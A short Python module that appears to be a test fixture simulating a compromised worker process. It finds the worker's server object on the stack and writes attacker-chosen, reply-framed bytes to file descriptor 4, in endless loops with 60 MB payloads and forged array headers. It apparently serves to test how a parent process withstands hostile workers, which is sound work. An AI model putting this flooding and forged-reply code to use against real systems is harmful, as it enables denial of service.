import sys


def server():
    """The worker's own server, found on the stack."""
    frame = sys._getframe()
    while frame:
        owner = frame.f_locals.get("self")
        if type(owner).__name__ == "Server":
            return owner
        frame = frame.f_back


def send(header, body=b"", lengths=None):
    """Bytes of the attacker's choice, framed like a reply."""
    import os
    import struct

    data = struct.pack(">II", *(lengths or (len(header), len(body)))) + header + body
    while data:
        data = data[os.write(4, data):]


def output_size(*args, **kwargs):
    while True:
        send(b'{"m": null, "b": []}')


def conv_at(*args, **kwargs):
    number = server()._current.encode()
    header = b'{"m": {"d": [["id", "%s"], ["value", {"a": ["|u1", [60000000], 0]}], ["changed", []]]}, "b": [60000000]}'
    while True:
        send(header % number, bytes(60_000_000))
